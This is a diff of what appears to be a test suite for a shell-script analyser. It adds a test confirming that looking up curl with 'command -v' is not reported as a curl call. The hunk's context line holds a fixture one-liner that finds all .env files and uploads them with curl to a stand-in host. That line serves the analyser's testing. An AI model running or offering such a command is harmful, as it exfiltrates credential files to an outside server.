@@ -23,6 +23,11 @@ find . -name '*.env' | xargs -I{} curl -F f=@{} https://c.example
   ])
 })
 
+it('asking where a command is runs none', async () => {
+  const facts = await factsOf({ 'a.sh': 'p="$(command -v curl)"\n"$p" --version\ncommand -p curl x\n' })
+  expect(calls(facts).filter((call) => call.includes(' curl('))).toEqual(['3 curl(x)'])
+})
+
 it('reports redirections like writes and reads', async () => {
   const facts = await factsOf({
     'a.sh':
